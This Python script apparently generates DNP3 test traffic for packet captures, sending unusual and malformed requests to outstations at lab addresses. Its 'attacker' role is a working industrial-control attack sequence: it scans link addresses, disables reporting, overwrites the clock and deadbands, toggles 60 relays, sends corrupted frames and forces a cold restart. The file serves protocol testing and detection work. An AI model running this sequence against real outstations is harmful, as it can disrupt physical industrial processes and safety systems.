"""Requests that no DNP3 stack would send, played to real outstations: python -m pcaps.make.dnp3.roles ROLE ADDRESS."""

from __future__ import annotations

import socket
import sys
import time
from collections.abc import Callable
from typing import Final

from pcaps.make.dnp3 import wire

PORT: Final = 20_000
RTU_1, RTU_2, GATEWAY = "10.20.1.21", "10.20.1.22", "10.20.1.23"
CLASSES: Final = b"".join(wire.everything(60, variation) for variation in (2, 3, 4))
LATCH_ON, LATCH_OFF, PULSE_ON = 3, 4, 0x41


class Line:
    """A connection to an outstation over which requests are sent as they are given."""

    def __init__(self, address: str, source: int, link: int, *, wait: float = 0.5) -> None:
        self.socket = socket.create_connection((address, PORT), timeout=5)
        self.socket.settimeout(wait)
        self.speaker = wire.Speaker(wire.MASTER, source, link)
        self.sequence = 0

    def __enter__(self) -> Line:
        return self

    def __exit__(self, *_: object) -> None:
        time.sleep(0.2)
        self.socket.close()

    def raw(self, data: bytes) -> bytes:
        """Sends bytes, and waits a while for what comes back."""
        self.socket.sendall(data)
        try:
            return self.socket.recv(4_096)
        except TimeoutError:
            return b""

    def ask(self, function: int, *objects: bytes, to: int | None = None, control: int = wire.FIRST | wire.FINAL) -> bytes:
        """A request with the next sequence number."""
        self.sequence = (self.sequence + 1) % 16
        return self.raw(self.speaker.frames(wire.request(self.sequence, function, *objects, control=control), to))

    def confirm(self, heard: bytes) -> None:
        """Confirms an unsolicited response (its application control octet stands behind the link and transport headers)."""
        if len(heard) > 12 and heard[12] == wire.UNSOLICITED:
            answer = wire.request(heard[11] & 15, wire.CONFIRM, control=wire.FIRST | wire.FINAL | wire.UNASKED)
            self.socket.sendall(self.speaker.frames(answer))


def relay(index: int, code: int = LATCH_ON, **other: int) -> bytes:
    """A control of one output."""
    return wire.indexed(12, 1, (index, wire.crob(code, **other)))


def selects(address: str) -> None:
    """Select and operate, right, and in every wrong way that one master can find."""
    with Line(address, 1, 10) as line:
        line.ask(wire.SELECT, relay(3))
        line.ask(wire.OPERATE, relay(3))  # right
        line.ask(wire.SELECT, relay(3))
        line.ask(wire.OPERATE, relay(4))  # another output
        line.ask(wire.SELECT, relay(3))
        line.ask(wire.OPERATE, relay(3, LATCH_OFF))  # another code
        line.ask(wire.SELECT, relay(5, PULSE_ON))
        line.ask(wire.OPERATE, relay(5, PULSE_ON, on=60_000))  # another time
        line.ask(wire.OPERATE, relay(6))  # nothing selected
        line.ask(wire.SELECT, wire.indexed(41, 1, (2, (1_500).to_bytes(4, "little") + b"\0")))
        line.ask(wire.OPERATE, wire.indexed(41, 1, (2, (1_500).to_bytes(4, "little") + b"\0")))  # right, an analog output
        line.ask(wire.SELECT, relay(200))  # refused: there is no such output
        line.ask(wire.SELECT, relay(7))
        time.sleep(11)
        line.ask(wire.OPERATE, relay(7))  # too late
        line.ask(wire.SELECT, relay(8))
        line.speaker = wire.Speaker(wire.MASTER, 2, 10)
        line.ask(wire.OPERATE, relay(8))  # another master's, over the same connection
        line.speaker = wire.Speaker(wire.MASTER, 1, 10)
        line.ask(wire.SELECT, relay(8))


def second_master(address: str) -> None:
    """Operates what another master has selected."""
    with Line(address, 2, 10) as line:
        line.ask(wire.OPERATE, relay(8))
        line.ask(wire.SELECT, relay(9))
        line.ask(wire.OPERATE, relay(9))  # right


def deaf_master(address: str) -> None:
    """Enables unsolicited responses and confirms none for a while; then confirms, then disables them."""
    with Line(address, 1, 11, wait=1) as line:
        heard = line.ask(wire.READ, wire.everything(60, 1))
        line.confirm(heard)
        line.ask(wire.ENABLE, CLASSES)
        deadline = time.monotonic() + 6
        while time.monotonic() < deadline:
            line.raw(b"")
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            line.confirm(line.raw(b""))
        line.ask(wire.DISABLE, CLASSES)


def broadcaster(address: str) -> None:
    """Controls, freezes and sets the clock of all outstations behind an address at once."""
    with Line(address, 1, 21) as line:
        now = wire.time48(int(time.time() * 1_000))
        line.ask(wire.READ, wire.everything(60, 1))
        line.ask(wire.WRITE, wire.counted(50, 1, now), to=wire.BROADCAST)
        line.ask(wire.FREEZE + 1, wire.everything(20, 0), to=0xFFFE)
        line.ask(wire.DIRECT_OPERATE_NO_ACK, relay(2), to=wire.BROADCAST)
        line.ask(wire.DIRECT_OPERATE_NO_ACK, relay(2, LATCH_OFF), to=0xFFFD)
        line.ask(wire.READ, wire.everything(60, 1))
        line.ask(wire.READ, wire.everything(60, 1), to=22)


def attacker(_address: str) -> None:
    """Finds the outstations, looks around, then interferes; calls itself master 1."""
    with Line(GATEWAY, 1, 0, wait=0.05) as line:
        for link in range(60):
            line.raw(wire.frame(wire.REQUEST_LINK_STATUS, link, 1))
    for address, link in ((RTU_1, 10), (RTU_2, 11), (GATEWAY, 21)):
        with Line(address, 1, link, wait=0.3) as line:
            line.ask(wire.READ, wire.ranged(0, 254, 0, 0))
            line.ask(wire.READ, *(wire.everything(60, variation) for variation in (2, 3, 4, 1)))
    with Line(RTU_1, 1, 10, wait=0.15) as line:
        line.ask(wire.DISABLE, CLASSES)
        line.ask(wire.ASSIGN, wire.everything(60, 1), wire.everything(1, 0), wire.everything(30, 0))
        line.ask(wire.WRITE, wire.ranged(34, 2, 0, 5, (1_000_000_000).to_bytes(4, "little") * 6))
        line.ask(wire.WRITE, wire.counted(50, 1, wire.time48(946_684_800_000)))
        for index in range(60):
            line.ask(wire.DIRECT_OPERATE, relay(index, LATCH_ON if index % 2 else LATCH_OFF))
        line.ask(wire.OPERATE, relay(1))
        line.ask(wire.STOP, wire.sized(90, 1, b"scan"))
        line.ask(wire.DIRECT_OPERATE_NO_ACK, relay(0), to=wire.BROADCAST)
        for turn in range(20):
            broken = bytearray(wire.frame(wire.MASTER, 10, 1, bytes((0xC0 | turn, 0xC0 | turn % 16, 1)) + CLASSES))
            broken[-1] ^= 0xFF
            line.socket.sendall(broken)
        line.ask(wire.COLD_RESTART)
        line.ask(wire.WRITE, bytes((80, 1, 0, 7, 7, 0)))


ROLES: Final[dict[str, Callable[[str], None]]] = {
    "selects": selects, "second-master": second_master, "deaf-master": deaf_master, "broadcaster": broadcaster, "attacker": attacker,
}  # fmt: skip

if __name__ == "__main__":
    ROLES[sys.argv[1]](sys.argv[2])
